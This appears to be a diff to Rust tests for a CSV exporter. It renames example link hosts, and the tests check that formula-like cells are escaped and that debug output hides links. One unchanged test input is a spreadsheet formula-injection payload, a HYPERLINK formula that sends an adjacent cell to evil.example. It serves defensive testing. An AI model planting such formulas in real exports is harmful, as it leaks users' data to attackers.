@@ -57,8 +57,8 @@ fn cells_a_spreadsheet_would_run_are_prefixed_with_a_quote() {
         ("a=b", "a=b"),
         (" =1", " =1"),
         (
-            "https://vault.example/session/1",
-            "https://vault.example/session/1",
+            "https://links.example/session/1",
+            "https://links.example/session/1",
         ),
     ];
     for (cell, expect) in cases {
@@ -71,7 +71,7 @@ fn a_formula_owner_name_is_inert_in_the_csv_next_to_a_link() {
     let mut row = row();
     row.owner_name = Some("=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")".into());
     row.owner_id = "-u1".into();
-    row.link = Some("https://vault.example/session/CANARY".into());
+    row.link = Some("https://links.example/session/CANARY".into());
     let mut out = Vec::new();
     write_rows(&[row], true, &mut out).unwrap();
     let text = String::from_utf8(out).unwrap();
@@ -85,7 +85,7 @@ fn a_formula_owner_name_is_inert_in_the_csv_next_to_a_link() {
 #[test]
 fn debug_of_a_row_never_shows_its_link() {
     let mut row = row();
-    row.link = Some("https://vault.example/session/CANARY-link".into());
+    row.link = Some("https://links.example/session/CANARY-link".into());
     let text = format!("{row:?}");
     assert!(!text.contains("CANARY-link"), "{text}");
     assert!(text.contains("has_link: true"), "{text}");
